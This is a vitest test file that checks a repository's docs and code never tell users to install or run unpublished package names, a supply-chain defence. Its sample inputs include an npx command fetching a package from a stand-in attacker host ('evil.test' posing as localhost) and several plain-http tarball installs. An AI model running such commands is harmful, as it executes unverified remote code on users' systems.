/** No text tells people to install or run a package of ours by a name that we have not published. */
import { readFileSync } from 'node:fs'
import { describe, expect, it } from 'vitest'
import { barePackageCommands } from './package-names'
import { pathsBelow } from './tree'

const folders = ['app', 'components', 'docs', 'examples', 'lib', 'packages', 'public']
const texts = /\.(md|mdx|tsx?|m?js|py|txt|toml|json|html)$/

const paths = [
  'README.md',
  'CONTRIBUTING.md',
  'CHANGELOG.md',
  ...folders.flatMap((folder) => pathsBelow('.', folder, texts)),
]

// security: supply-5
it('names no unpublished package in a command, in any text of the repository', () => {
  expect(paths.length).toBeGreaterThan(1000)
  const found = paths.flatMap((path) =>
    barePackageCommands(readFileSync(path, 'utf8')).map((command) => `${path}: ${command}`),
  )
  expect(found).toEqual([])
})

describe('the rule', () => {
  it.each([
    'npm install @beak/client',
    'npm i -D @beak/client@latest',
    'run `npm install --save-dev @beak/client` first',
    'npm exec @beak/client',
    'npx @beak/client login',
    'npx -y beak login',
    'npx --no-install beak login',
    'pnpm add @beak/client',
    'pnpm dlx @beak/client',
    'yarn add hono @beak/client',
    'bunx @beak/client',
    'pip install beak-client',
    'pip install -U "beak-client[verify]"',
    'pip3 install beak==1.0',
    'uv add beak-client',
    'uvx beak-client',
    'pipx run beak-client',
    '<code>npm install @beak/client</code>',
    'pip install "beak-client[verify]" @ https://beak.example/x.whl',
    'npm install http://beak.example/clients/beak-client-1.0.0.tgz',
    'pip install "beak-client[verify] @ http://beak.example/clients/x.whl"',
    'npx http://127.0.0.1.evil.test/clients/beak-dev-1.0.0.tgz --json',
    '"command": "npx", "args": ["-y", "@beak/client", "mcp"]',
  ])('finds: %s', (text) => {
    expect(barePackageCommands(text)).toHaveLength(1)
  })

  it.each([
    'npm install ./beak/packages/client',
    'npm install https://beak.example/clients/beak-client-1.0.0.tgz',
    'npx http://localhost:3000/clients/beak-dev-1.0.0.tgz --json',
    'pip install "beak-client[verify] @ https://beak.example/clients/x.whl"',
    'pip install "./beak/packages/client-python[verify]"',
    'pip install --editable .',
    'npm install @simplewebauthn/browser',
    "import { Beak } from '@beak/client'",
    '`npm install` builds @beak/client',
    'npm run --silent beak -- audit verify',
    './node_modules/.bin/beak login',
  ])('allows: %s', (text) => {
    expect(barePackageCommands(text)).toEqual([])
  })
})
